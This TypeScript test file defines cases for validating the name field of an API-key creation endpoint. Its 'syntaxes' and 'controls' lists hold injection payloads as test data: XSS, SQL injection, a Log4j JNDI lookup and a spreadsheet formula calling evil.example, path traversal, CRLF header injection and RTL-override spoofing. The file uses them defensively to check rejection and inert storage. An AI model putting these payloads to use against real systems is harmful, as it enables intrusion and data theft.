import { attack, attemptCalls, attempted, badRequest, created, creating } from '../requests';

const refused = (what: string, name: unknown, why: string) =>
  attack(what, creating(JSON.stringify({ name })), badRequest(`Invalid input: name must ${why}`));
const tooShort = (what: string, name: string) => refused(what, name, 'be at least 3 characters');
const tooLong = (what: string, name: string) => refused(what, name, 'be at most 100 characters');
const noString = (what: string, name: unknown) => refused(what, name, 'be a string');
const forbidden = 'not contain control characters, or characters that hide or reorder text';
const unfit = (what: string, name: string) => refused(what, name, forbidden);
/** Accepted, and stored as it came unless given. */
const accepted = (what: string, name: string, stored = name) =>
  attack(what, creating(JSON.stringify({ name })), created(stored));

const lengths = [
  tooShort('an empty name', ''),
  tooShort('two letters', 'ab'),
  accepted('three letters', 'abc'),
  accepted('100 letters', 'a'.repeat(100)),
  tooLong('101 letters', 'a'.repeat(101)),
  tooLong('16,000 letters', 'a'.repeat(16_000)),
  tooShort('two emoji, which are four UTF-16 units', '😀😀'),
  accepted('three emoji', '😀😀😀'),
  accepted('100 emoji', '😀'.repeat(100)),
  tooLong('101 emoji', '😀'.repeat(101)),
  tooShort('two letters in four code points, before NFC', 'e\u0301e\u0301'),
  accepted('100 letters in 200 code points, before NFC', 'e\u0301'.repeat(100), '\u00e9'.repeat(100)),
  accepted('50 letters that become 100 by NFC', '\u0958'.repeat(50), '\u0915\u093c'.repeat(50)),
  tooLong('51 letters that become 102 by NFC', '\u0958'.repeat(51)),
];

const whiteSpace = [
  tooShort('blanks', '   '),
  tooShort('two letters and blanks', ' ab '),
  tooShort('blanks that are not ASCII', '\u00a0\u2003\u3000\ufeff'),
  accepted('blanks around it', '  Trimmed\t\n', 'Trimmed'),
  accepted('blanks that are not ASCII around it', '\u00a0\u3000Trimmed too\u2003\ufeff', 'Trimmed too'),
  accepted('a blank within', 'a b'),
  accepted('100 letters and blanks around them', ` ${'b'.repeat(100)} `, 'b'.repeat(100)),
  unfit('a tab within', 'Tab\tbed'),
  unfit('a line separator within', 'Two\u2028lines'),
  unfit('a paragraph separator within', 'Two\u2029paragraphs'),
  unfit('the next-line control within', 'Next\u0085line'),
];

const controls = [
  unfit('a NUL', 'Nul\u0000l'),
  unfit('an escape sequence for a terminal', 'Red \u001b[31malert'),
  unfit('a backspace', 'Safe\u0008\u0008\u0008\u0008Evil'),
  unfit('a delete', 'Del\u007fete'),
  unfit('a C1 control', 'Csi\u009b31m'),
  unfit('a line of the log', 'Key"}\n{"level":"ERROR","message":"request.failed"}'),
  unfit('a carriage return and a header', 'Key\r\nSet-Cookie: a=b'),
  unfit('a right-to-left override', 'Key \u202egnp.exe'),
  unfit('an embedding', 'Key \u202bturned'),
  unfit('an isolate', 'Key \u2067turned\u2069'),
  unfit('a lone high surrogate', 'Half \ud83d'),
  unfit('a lone low surrogate', 'Half \ude00 of one'),
  unfit('surrogates in the wrong order', 'Half \ude00\ud83d'),
];

const scripts = [
  accepted('decomposed: stored composed', 'Schlu\u0308ssel', 'Schl\u00fcssel'),
  accepted('jamo: stored as a syllable', '\u1112\u1161\u11ab\u1100\u1173\u11af key', '\ud55c\uae00 key'),
  accepted('a ligature, which NFC keeps', '\ufb01nance'),
  accepted('Cyrillic that looks Latin', '\u0420roduction \u041aey'),
  accepted('right to left', 'مفتاح الإنتاج'),
  accepted('joined emoji', '👩‍👩‍👧'),
  accepted('a skin tone', 'Key 👍🏽'),
  accepted('stacked diacritics', `Z${'\u0335\u0336\u0337'.repeat(20)}algo`),
];

/** Names that are displayed as another name, or as none. */
const hidden = [
  unfit('a left-to-right mark', 'Key\u200e one'),
  unfit('an Arabic letter mark', 'Key\u061c one'),
  unfit('a zero-width space', 'Zero\u200bwidth'),
  unfit('a soft hyphen', 'Soft\u00adhyphen'),
  unfit('only Hangul fillers', '\u3164\u3164\u3164'),
  unfit('only zero-width spaces', '\u200b'.repeat(100)),
  unfit('only joiners', '\u200d'.repeat(100)),
  unfit('only Braille blanks', '\u2800\u2800\u2800'),
  unfit('text in tag characters', `Key ${String.fromCodePoint(0xe0049, 0xe0067, 0xe006e, 0xe006f, 0xe0072, 0xe0065)}x`),
  unfit('text in variation selectors', `Key 😀${'\u{e0130}\u{e0175}'.repeat(20)}x`),
  unfit('a flag of tags', '🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} key'),
  unfit('a joiner at the end', 'Key\u200d'),
  unfit('a noncharacter', 'Key\ufffe one'),
];

const syntaxes = [
  accepted('JSON', 'Key","level":"ERROR","x":"{'),
  accepted('HTML', '<img src=x onerror=alert(1)>'),
  accepted('SQL', "Robert'); DROP TABLE keys;--"),
  accepted('a Log4j lookup', '$\u007bjndi:ldap://evil.example/a}'),
  accepted('a DynamoDB condition', 'attribute_not_exists(id) OR :x = :x'),
  accepted('a spreadsheet formula', '=HYPERLINK("http://evil.example")'),
  accepted('a path', '../../etc/passwd'),
  accepted('format specifiers', '%s%s%n %p'),
  accepted('an inherited name', '__proto__'),
  accepted('the word null', 'null'),
];

const noStrings = [
  noString('null', null),
  noString('a number', 12345),
  noString('true', true),
  noString('an array of a name', ['Listed']),
  noString('an object', { toString: 'Named' }),
  noString('an object with a length', { length: 50 }),
];

/** The name of a key that there is; the request may write it differently. */
const inUse = (what: string, name: string, written = name) =>
  attack(
    what,
    creating(JSON.stringify({ name: written })),
    {
      status: 409,
      code: 'CONFLICT',
      message: `An API key named "${name}" already exists`,
      calls: [...attemptCalls, 'BatchGetItem', 'DeleteItem'],
      ...attempted,
    },
    (setting) => [creating(JSON.stringify({ name }))(setting)],
  );

const duplicates = [
  inUse('the name of a key that there is', 'Twin'),
  inUse(
    'the name of a key that there is, decomposed and with blanks',
    'Zwillingsschl\u00fcssel',
    ' Zwillingsschlu\u0308ssel ',
  ),
];

export const names = { lengths, whiteSpace, controls, scripts, hidden, syntaxes, noStrings, duplicates };
